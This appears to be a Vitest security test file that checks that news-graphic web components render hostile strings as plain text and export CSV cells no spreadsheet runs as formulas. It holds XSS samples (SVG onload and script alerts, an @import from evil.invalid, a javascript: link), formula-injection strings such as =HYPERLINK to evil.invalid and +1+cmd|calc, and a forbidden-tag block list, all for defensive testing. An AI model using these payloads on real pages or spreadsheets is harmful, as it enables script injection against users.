// Promises 104 to 107 and 116: whatever stands in a string is words, and never markup, script, style, request or formula.
import { beforeEach, describe, expect, test } from 'vitest';
import { cells, download } from '../fixtures/promises/csv.ts';
import { drawn, TAGS, type Graphic } from '../fixtures/promises/stories.ts';
import { ADDRESSES, MARKUP, STYLES } from '../fixtures/promises/payloads.ts';
import { flat } from '../fixtures/promises/texts.ts';

/** Every field of the full form, as a page writes it. */
const FULL: Readonly<Record<string, string>> = {
  'tl-arms-request-checklist': `
    <p data-title>Title</p>
    <ul data-by="South">
      <li data-item="boats" data-of="North" data-status="requested">
        <b data-word>formally requested</b> <span data-what>Boats</span> <span data-of>North</span> <span data-note>A note</span>
        <cite data-certainty="reported"><a href="https://example.org/">an embassy</a></cite> <time datetime="2024-10">October</time>
        <span data-status="confirmed"><b data-word>agreed</b> <span data-note>Moved</span> <cite data-certainty="confirmed">a ministry</cite> <time datetime="2024-11-02"></time></span>
      </li>
    </ul>
    <p><span data-word="asked">Asked of {of}</span> <span data-word="was">was {status}</span></p>
    <p data-source>Source <a href="https://example.org/">A paper</a></p>`,
  'tl-force-comparison-bar': `
    <table data-scale="unit"><caption>Title</caption>
      <thead><tr><td></td><th data-side="n">North</th><th data-side="s">South</th></tr></thead>
      <tbody><tr data-row="ships" data-unit="ship" data-units="ships"><th><span data-short>Ships</span> at sea</th>
        <td><data value="12" data-qualifier="about">about 12</data> <cite data-certainty="reported"><a href="https://example.org/">a paper</a></cite> <time datetime="2024-10">October</time></td>
        <td><data value="3" data-upper="5" data-qualifier="range">3 to 5</data> <cite data-certainty="estimated">analysts</cite></td></tr></tbody></table>
    <p><span data-word="own-scale">Own scale</span></p>
    <p data-source>Source <a href="https://example.org/">A paper</a></p>`,
  'tl-distance-graphic': `
    <table data-centre="-66.93,10.61" data-centre-name="Caracas"><caption>Title</caption>
      <thead><tr><td></td><th data-col="stated">As stated</th><th data-col="measured">Measured</th></tr></thead>
      <tbody><tr data-row="isle" data-from="A cape" data-coast="862" data-points="-63.6,15.7 -65.2,18.1"><th>An isle</th>
        <td><data value="400" data-qualifier="under" data-unit="km">within 400 km</data> <cite data-certainty="claimed"><a href="https://example.org/">a guard</a></cite></td>
        <td><data value="322" data-unit="km">322 km</data> <span data-note>From the cape</span></td></tr></tbody></table>
    <p data-method>Method</p><p data-credit>Credit</p><p data-country="862">Venezuela</p><p data-word="more">{n} more</p>
    <p data-source>Source <a href="https://example.org/">A paper</a></p>`,
  'tl-quote-card': `
    <p data-title>Title</p>
    <figure data-quote="rain" lang="en" dir="ltr"><blockquote cite="https://example.org/" lang="en">Words.</blockquote><blockquote data-original lang="es">Palabras.</blockquote>
      <figcaption><span data-speaker>Ana</span> <span data-role>farmer</span> <span data-occasion>a meeting</span> <time datetime="2024-03-05">5 March</time>
        <span data-how="interview">interview</span> <span data-translation>by us</span> <a href="https://example.org/">Herald</a></figcaption></figure>
    <p data-source>Source <a href="https://example.org/">A paper</a></p>`,
};

/** Strings that a component reads as something else than words: without them the picture is another one, with less in it. */
const CODED = /^(status|certainty|qualifier|value|upper|asOf|date|how|points|coast|centre|id|lang|dir|scale|units?)$/;

let ran: unknown[] = [];
beforeEach(() => {
  ran = [];
  window.alert = (said) => void ran.push(said);
  document.documentElement.dataset['tlDev'] = 'off';
  document.body.replaceChildren();
  performance.clearResourceTimings();
});

function put(tag: string, fill: (graphic: Graphic) => void): Graphic {
  const graphic = document.createElement(tag) as Graphic;
  fill(graphic);
  document.body.append(graphic);
  return graphic;
}

/** The same with another string in every place, or in every place that holds words. */
function replaced(written: unknown, text: string, everywhere: boolean, key = ''): unknown {
  if (typeof written === 'string') return everywhere || !CODED.test(key) ? text : written;
  if (Array.isArray(written)) return written.map((part) => replaced(part, text, everywhere, key));
  if (typeof written !== 'object' || written === null) return written;
  return Object.fromEntries(
    Object.entries(written).map(([name, value]) => [name, replaced(value, text, everywhere, name)]),
  );
}

function rewrite(graphic: Element, text: string, everywhere: boolean): void {
  for (const node of [...flat(graphic)]) {
    if (node instanceof Text && node.data.trim() !== '') node.data = text;
    if (!(node instanceof Element) || node === graphic || !everywhere) continue;
    for (const { name, value } of [...node.attributes]) if (value !== '') node.setAttribute(name, text);
  }
}

const FORBIDDEN =
  /^(script|iframe|img|image|object|embed|base|meta|link|style|form|input|video|audio|source|use|animate|set|foreignObject|math|template|tl-.*)$/i;

/** Everything in a graphic's own drawing that is not a harmless element with harmless attributes. */
function harmful(graphic: Graphic): string[] {
  return flat(graphic.shadowRoot!)
    .filter((node): node is Element => node instanceof Element && node.getRootNode() === graphic.shadowRoot)
    .flatMap((element) => [
      ...(FORBIDDEN.test(element.localName) ? [`<${element.localName}>`] : []),
      ...[...element.attributes]
        .filter(
          ({ name, value }) =>
            /^(on|style$|srcdoc$|srcset$)/i.test(name) ||
            (/(^|:)(href|src|action|data)$/.test(name) && !isHarmless(value)),
        )
        .map(({ name, value }) => `${element.localName} ${name}="${value}"`),
    ]);
}

/** As the browser itself reads an address. */
function isHarmless(address: string): boolean {
  try {
    return /^(https?|mailto):$/.test(new URL(address, document.baseURI).protocol);
  } catch {
    return false;
  }
}

const asked = () =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.includes('evil'));

const folded = (text: string) => text.replace(/\s+/g, ' ').trim();

describe.each(TAGS)('%s', (tag) => {
  const states = [
    {},
    { focus: 'boats', status: { boats: 'confirmed' } },
    { focus: 'ships', view: 'units' },
    { focus: 'isle', view: 'ruler' },
  ];

  async function draw(payload: string, fill: (graphic: Graphic, everywhere: boolean) => void): Promise<void> {
    const graphics = [true, false].map((everywhere) => put(tag, (graphic) => fill(graphic, everywhere)));
    for (const state of states) {
      for (const graphic of graphics) graphic.state = state;
      for (const graphic of graphics) await graphic.updateComplete;
      expect({ payload, harmful: graphics.flatMap(harmful) }).toEqual({ payload, harmful: [] });
    }
    for (const graphic of graphics) {
      expect(folded(graphic.shadowRoot!.querySelector('[part=title]')?.textContent ?? '')).toBe(folded(payload));
      graphic.remove();
    }
  }

  test('shows each of eighty hostile strings as it is written, in every field of the page’s own HTML', async () => {
    for (const payload of [...MARKUP, ...STYLES]) {
      await draw(payload, (graphic, everywhere) => {
        graphic.innerHTML = FULL[tag]!;
        rewrite(graphic, payload, everywhere);
      });
    }
    await drawn(document);
    expect(ran).toEqual([]);
    expect(asked()).toEqual([]);
  });

  test('shows them as they are written in every field of the property data', async () => {
    const full = put(tag, (graphic) => (graphic.innerHTML = FULL[tag]!)) as Graphic & { written: unknown };
    await full.updateComplete;
    const { written } = full;
    full.remove();
    expect(JSON.stringify(written)).toContain('example.org');
    for (const payload of [...MARKUP, ...STYLES]) {
      await draw(payload, (graphic, everywhere) => (graphic.data = replaced(written, payload, everywhere)));
    }
    await drawn(document);
    expect(ran).toEqual([]);
    expect(asked()).toEqual([]);
  });

  test('links only to addresses that the browser reads as http, https or mailto; of the others the words stay', async () => {
    const full = put(tag, (graphic) => (graphic.innerHTML = FULL[tag]!)) as Graphic & { written: unknown };
    for (const address of ADDRESSES) {
      const graphic = put(tag, (fresh) => {
        fresh.innerHTML = FULL[tag]!;
        for (const link of fresh.querySelectorAll('a, [cite]'))
          link.setAttribute(link.localName === 'a' ? 'href' : 'cite', address);
      });
      await graphic.updateComplete;
      const links = [...graphic.shadowRoot!.querySelectorAll('a')];
      expect(links.filter(({ href }) => !isHarmless(href)).map(({ href }) => href)).toEqual([]);
      expect({ address, linked: links.length > 0 }).toEqual({ address, linked: isHarmless(address) });
      expect(graphic.shadowRoot!.querySelector('[part=source]')?.textContent).toContain('A paper');
      graphic.remove();
    }
    full.remove();
  });

  test('shows no comment of the page as words', async () => {
    const plain = put(tag, (graphic) => (graphic.innerHTML = FULL[tag]!));
    const noisy = put(tag, (graphic) => {
      graphic.innerHTML = FULL[tag]!;
      for (const node of flat(graphic).filter((each) => each instanceof Text && each.data.trim() !== '')) {
        node.parentNode!.insertBefore(document.createComment('for the desk only'), node);
      }
    });
    await drawn(document);
    expect(noisy.shadowRoot!.textContent).not.toContain('desk');
    expect(folded(noisy.shadowRoot!.textContent)).toBe(folded(plain.shadowRoot!.textContent));
  });

  test('takes only words from an author’s SVG: none of it is in the picture or in a still', async () => {
    const svg =
      '<svg class="theirs" onload="alert(1)"><script>alert(1)</script><style>@import "//evil.invalid/c.css";</style><text>Label</text>' +
      '<foreignObject><p class="theirs">in it</p></foreignObject><a href="javascript:alert(1)"><circle class="theirs" r="5"></circle></a></svg>';
    // A parsed document that is not the page: what the browser itself does with an author's page is not ours.
    const inert = new DOMParser().parseFromString(`<${tag}>${FULL[tag]!}</${tag}>`, 'text/html');
    for (const element of inert.querySelectorAll(
      'caption, th, cite, data, li span, blockquote, [data-speaker], [data-source], [data-title]',
    ))
      element.insertAdjacentHTML('beforeend', svg);
    const theirs = inert.querySelector(tag)!;
    const graphic = put(tag, () => undefined) as Graphic & {
      still(state: object): Graphic;
      written: unknown;
      data: unknown;
    };
    const reader = document.createElement(tag) as Graphic & { written: unknown };
    reader.append(...[...theirs.childNodes].map((node) => node.cloneNode(true)));
    graphic.data = reader.written;
    await graphic.updateComplete;
    const still = graphic.still({});
    document.body.append(still);
    await still.updateComplete;
    for (const drawing of [graphic, still]) {
      expect(drawing.shadowRoot!.textContent).toContain('Label');
      expect(drawing.shadowRoot!.querySelectorAll('.theirs, foreignObject, script')).toHaveLength(0);
      expect(harmful(drawing)).toEqual([]);
    }
    expect(ran).toEqual([]);
  });
});

describe('the table as a file', () => {
  // OWASP: a cell that begins with one of these is a formula to a spreadsheet.
  const FORMULA = /^[=+\-@\t\r]/;
  const formulas = ['=HYPERLINK("//evil.invalid")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '＝1+1'];

  test.each(['tl-arms-request-checklist', 'tl-force-comparison-bar', 'tl-distance-graphic'])(
    'of %s runs nothing in a spreadsheet',
    async (tag) => {
      for (const formula of formulas) {
        const graphic = put(tag, (fresh) => {
          fresh.innerHTML = FULL[tag]!;
          rewrite(fresh, formula, false);
        });
        await graphic.updateComplete;
        const csv = await download(graphic);
        expect(csv.startsWith('\uFEFF')).toBe(true);
        expect(csv).toContain(formula.trim().slice(1, 4));
        expect(cells(csv).filter((cell) => FORMULA.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
        graphic.remove();
      }
    },
  );
});
